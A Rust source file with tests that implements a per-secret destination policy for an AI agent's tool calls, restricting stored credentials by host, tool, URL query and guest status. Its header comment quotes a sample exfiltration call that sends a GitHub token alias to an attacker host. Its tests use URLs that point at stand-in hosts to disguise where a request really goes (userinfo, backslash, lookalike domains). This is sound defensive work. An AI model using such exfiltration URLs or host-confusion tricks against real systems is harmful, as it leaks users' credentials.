//! Where each stored secret may go (`core.security.secret_destinations`).
//!
//! Masking keeps a secret's value from the model; it does not stop the model from
//! *using* the alias somewhere the owner never meant: `web_fetch
//! http://attacker/?k=@{github}` used to deliver the token to the attacker while the
//! model saw only the alias. So a secret is filled only where its owner said it may go:
//!
//! * **hosts**: a tool that uses the network gets the value only when every URL in its
//!   arguments goes to one of the secret's hosts (`api.github.com`, `*.github.com`); a
//!   secret with no hosts never goes over the network;
//! * **in a URL's query** only with `in_query: true` (query strings end up in logs and
//!   `Referer` headers); headers and bodies are the place for credentials;
//! * **command lines** (`cmd_*`, `terminal_*`) only for tools named in `tools`: a shell
//!   can send anything anywhere, so this is an explicit opt-in;
//! * **tools**: when `tools` is given, only those tools (globs) get it at all;
//! * never for a guest's turn.
//!
//! The setting maps an alias to `{"hosts": [...], "tools": [...], "in_query": bool}`;
//! an alias without an entry may still be filled for tools that neither use the network
//! nor run commands (a plugin tool that signs a request itself, say).

use std::collections::BTreeMap;

use serde::Deserialize;

/// Tools whose arguments become a command line: a secret there goes wherever the
/// command sends it.
const COMMAND_TOOLS: &[&str] = &["cmd_*", "terminal_*"];

/// One secret's destinations.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Destination {
    /// Hosts (exact, or `*.example.com` for subdomains) network tools may send it to.
    #[serde(default)]
    pub hosts: Vec<String>,
    /// Tool-name globs that may receive it; empty: any tool that is not a network or
    /// command tool, plus network tools for `hosts`.
    #[serde(default)]
    pub tools: Vec<String>,
    /// Whether it may appear in a URL's query string.
    #[serde(default)]
    pub in_query: bool,
}

/// All secrets' destinations, by alias.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Destinations(pub BTreeMap<String, Destination>);

/// What is known about the call a secret would be filled into.
#[derive(Debug, Clone, Copy)]
pub struct FillTarget<'a> {
    pub tool: &'a str,
    /// The tool declared network use.
    pub network: bool,
    /// The calling input's principal is the owner.
    pub owner: bool,
}

impl Destinations {
    /// From the setting's JSON; `Err` says what is wrong (the firewall then fills no
    /// secret for network or command tools).
    pub fn parse(v: &serde_json::Value) -> Result<Self, Malformed> {
        if v.is_null() {
            return Ok(Self::default());
        }
        serde_json::from_value::<BTreeMap<String, Destination>>(v.clone())
            .map(Self)
            .map_err(Malformed)
    }

    /// Whether `alias` may be filled into `text` (one string argument) of `target`,
    /// where `urls` are the URL strings among the call's arguments; `Err` is the reason,
    /// written for the model and the owner.
    pub fn check(&self, alias: &str, text: &str, urls: &[&str], target: FillTarget<'_>) -> Result<(), NotAllowed> {
        if !target.owner {
            return Err(NotAllowed::Guest {
                alias: alias.to_owned(),
            });
        }
        let empty = Destination::default();
        let d = self.0.get(alias).unwrap_or(&empty);
        let hint = |to: &str| NotAllowed::To {
            alias: alias.to_owned(),
            to: to.to_owned(),
        };
        let listed = d.tools.iter().any(|g| crate::pattern::glob(g, target.tool));
        if !d.tools.is_empty() && !listed {
            return Err(hint(&format!("the tool `{}`", target.tool)));
        }
        if COMMAND_TOOLS.iter().any(|g| crate::pattern::glob(g, target.tool)) && !listed {
            return Err(hint("a command line"));
        }
        if target.network {
            if d.hosts.is_empty() {
                return Err(hint("the network"));
            }
            // A network call whose destination is not a URL we can read (a host in
            // some other argument) cannot be checked: refused.
            if urls.is_empty() {
                return Err(hint("a network call that names no URL"));
            }
            for url in urls {
                let Some(host) = host_of(url) else {
                    return Err(hint(&format!("`{url}`")));
                };
                if !d.hosts.iter().any(|h| host_matches(h, &host)) {
                    return Err(hint(&format!("the host `{host}`")));
                }
            }
        }
        if !d.in_query && in_query(text, alias) {
            return Err(hint("a URL's query string (send it in a header or the body)"));
        }
        Ok(())
    }
}

/// `core.security.secret_destinations` could not be read.
#[derive(Debug, thiserror::Error)]
#[error(
    "core.security.secret_destinations: {0}; expected {{\"<alias>\": {{\"hosts\": [\"api.example.com\"], \"tools\": [\"web_fetch\"], \"in_query\": false}}}}"
)]
pub struct Malformed(serde_json::Error);

/// Why a secret may not be filled into a call: written for the model and the owner.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum NotAllowed {
    #[error("`@{{{alias}}}` is never filled for a guest's turn; only the owner's own requests may use stored secrets")]
    Guest { alias: String },
    /// Not to this tool, command line, network, host or query string.
    #[error(
        "`@{{{alias}}}` may not go to {to}; the owner allows it in core.security.secret_destinations (\"{alias}\": {{\"hosts\": [...], \"tools\": [...]}})"
    )]
    To { alias: String, to: String },
}

/// The lower-case host of a URL, read the way browsers and the `url` crate do for
/// `http(s)` (a `\` ends the authority like `/`: `https://evil.io\@good.com/` goes to
/// `evil.io`). Anything unusual (percent-encoding, a trailing dot) simply fails to
/// match an allowed host, which refuses.
fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '\\', '?', '#']).next()?;
    let authority = authority.rsplit_once('@').map_or(authority, |(_, a)| a);
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        authority.split(':').next()?
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// `pattern` is a host or `*.domain` (any subdomain, not the domain itself).
fn host_matches(pattern: &str, host: &str) -> bool {
    let pattern = pattern.trim().to_ascii_lowercase();
    match pattern.strip_prefix("*.") {
        Some(domain) => host.ends_with(&format!(".{domain}")),
        None => pattern == host,
    }
}

/// Whether `@{alias}` sits in the query of a URL inside `text`.
fn in_query(text: &str, alias: &str) -> bool {
    let needle = format!("@{{{alias}}}");
    text.split_whitespace()
        .filter(|w| w.contains("://"))
        .any(|url| url.split_once('?').is_some_and(|(_, q)| q.contains(&needle)))
}

/// The strings among `args` that look like URLs, whatever their scheme's case (what a
/// network tool will fetch): every one must go to an allowed host.
pub fn urls_in(args: &serde_json::Value) -> Vec<&str> {
    let mut out = Vec::new();
    fn walk<'v>(v: &'v serde_json::Value, out: &mut Vec<&'v str>) {
        match v {
            serde_json::Value::String(s) => {
                let t = s.trim();
                if t.contains("://") {
                    out.push(t);
                }
            }
            serde_json::Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
            serde_json::Value::Object(o) => o.values().for_each(|x| walk(x, out)),
            _ => {}
        }
    }
    walk(args, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn dest() -> Destinations {
        Destinations::parse(&json!({
            "github": {"hosts": ["api.github.com", "*.githubusercontent.com"]},
            "deploy": {"tools": ["cmd_run"]},
        }))
        .unwrap()
    }

    const OWNER_NET: FillTarget<'static> = FillTarget {
        tool: "web_fetch",
        network: true,
        owner: true,
    };

    #[test]
    fn network_tools_get_a_secret_only_for_its_hosts_and_never_in_a_query() {
        let d = dest();
        assert!(
            d.check("github", "x", &["https://api.github.com/user"], OWNER_NET)
                .is_ok()
        );
        assert!(
            d.check("github", "x", &["https://raw.githubusercontent.com/a"], OWNER_NET)
                .is_ok()
        );
        let e = d
            .check("github", "x", &["http://127.0.0.1:9/"], OWNER_NET)
            .unwrap_err()
            .to_string();
        assert!(e.contains("127.0.0.1") && e.contains("secret_destinations"), "{e}");
        assert!(
            d.check("github", "x", &["https://api.github.com.evil.io/"], OWNER_NET)
                .is_err()
        );
        assert!(d.check("github", "x", &["https://user@evil.io/"], OWNER_NET).is_err());
        let q = "https://api.github.com/?k=@{github}";
        assert!(
            d.check("github", q, &[q], OWNER_NET)
                .unwrap_err()
                .to_string()
                .contains("query")
        );
        // No entry: never over the network.
        assert!(d.check("other", "x", &["https://api.github.com/"], OWNER_NET).is_err());
        // What a URL parser reads, not what a regex would.
        assert!(
            d.check("github", "x", &["https://evil.io\\@api.github.com/"], OWNER_NET)
                .is_err()
        );
        let args = serde_json::json!({"url": "HTTPS://evil.io/", "ref": "https://api.github.com/"});
        assert!(d.check("github", "x", &urls_in(&args), OWNER_NET).is_err());
        // A network call with its host in some other argument cannot be checked.
        assert!(
            d.check("github", "x", &[], OWNER_NET)
                .unwrap_err()
                .to_string()
                .contains("names no URL")
        );
    }

    #[test]
    fn command_lines_need_an_explicit_grant_and_guests_get_nothing() {
        let d = dest();
        let cmd = FillTarget {
            tool: "cmd_run",
            network: false,
            owner: true,
        };
        assert!(
            d.check("github", "echo @{github}", &[], cmd)
                .unwrap_err()
                .to_string()
                .contains("command line")
        );
        assert!(d.check("deploy", "deploy @{deploy}", &[], cmd).is_ok());
        let plugin = FillTarget {
            tool: "echo_say",
            network: false,
            owner: true,
        };
        assert!(d.check("github", "x", &[], plugin).is_ok());
        assert!(
            d.check("deploy", "x", &[], plugin)
                .unwrap_err()
                .to_string()
                .contains("echo_say")
        );
        let guest = FillTarget { owner: false, ..plugin };
        assert!(
            d.check("github", "x", &[], guest)
                .unwrap_err()
                .to_string()
                .contains("guest")
        );
    }

    #[test]
    fn a_malformed_setting_says_what_is_expected() {
        let e = Destinations::parse(&json!({"github": {"host": "x"}}))
            .unwrap_err()
            .to_string();
        assert!(e.contains("expected"), "{e}");
    }
}
